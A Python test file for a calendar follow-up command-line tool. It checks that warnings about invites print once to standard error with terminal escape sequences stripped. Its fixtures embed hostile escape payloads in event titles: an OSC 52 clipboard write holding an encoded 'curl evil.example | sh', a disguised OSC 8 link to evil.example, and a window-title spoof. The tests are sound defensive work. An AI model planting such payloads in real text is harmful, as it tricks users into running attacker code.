"""Warnings about an invite (near misses, what the reader skipped or guessed) are shown once,
on standard error, for every command, and no escape sequence in them reaches the terminal."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from followup.cli.main import main
from tests.conftest import ROOT
from tests.sync_support import CalendarApp, account
from tests.test_applications import SCREEN, calendar, event

pytest_plugins = ["tests.conftest_caldav"]

NOW = "2026-11-30T08:00"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: sets the clipboard
FAKE_LINK = "\x1b]8;;https://evil.example/\x1b\\Acme\x1b]8;;\x1b\\"  # OSC 8: a link
WINDOW = "\x1b]2;you are on a safe page\x07"  # retitles the window
HOSTILE = f"Call w/ Jane{CLIPBOARD} ({FAKE_LINK}){WINDOW}"
# A reader warning too: an organizer name with an escaped line break (the reader says so).
ODD = event(
    "odd@x",
    "20261202T090000Z",
    f"Interview with Hooli{WINDOW}",
    f"ORGANIZER;CN=Sam^nLee{CLIPBOARD}:mailto:sam@hooli.example",
)


def run(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "followup.cli.main", *args],
        capture_output=True,
        cwd=ROOT,
        env=dict(os.environ),
        check=False,
    )


def assert_shown_once_and_safely(out: bytes, err: bytes) -> None:
    assert b"\x1b" not in out and b"\x1b" not in err and b"\x07" not in err
    lines = err.decode().splitlines()
    missed = [line for line in lines if line.startswith("warning: Call w/ Jane")]
    odd = [line for line in lines if line.startswith("warning: ") and "odd@x" in line]
    assert len(missed) == 1, err.decode()
    assert len(odd) == 1, err.decode()
    assert b"warning:" not in out


@pytest.mark.parametrize(
    "command",
    [
        ["plan"],
        ["plan", "--until", "2027-01-31"],
        ["ics"],
        ["explain"],
        ["explain", "Hooli"],
    ],
)
def test_warnings_go_once_to_standard_error_with_no_escape_sequence(
    command: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "calendar.ics"
    path.write_bytes(calendar(SCREEN, ODD, event("t@x", "20261203T090000Z", HOSTILE)))
    done = run(*command, "--from", str(path), "--now", NOW)
    assert done.returncode == 0, done.stderr.decode()
    assert_shown_once_and_safely(done.stdout, done.stderr)


def test_sync_shows_the_same_warnings_once_and_safely(app: CalendarApp, password: str) -> None:
    work = app.make_calendar("work")
    target = app.make_calendar("followups")
    app.add(work, "screen", calendar(SCREEN))
    app.add(work, "odd", calendar(ODD))
    app.add(work, "t", calendar(event("t@x", "20261203T090000Z", HOSTILE)))
    result = CliRunner().invoke(
        main,
        ["sync", "--now", NOW, "--from", account(work), "--to", account(target), "--dry-run"],
    )
    assert result.exit_code == 0, result.output
    assert_shown_once_and_safely(result.stdout_bytes, result.stderr_bytes)
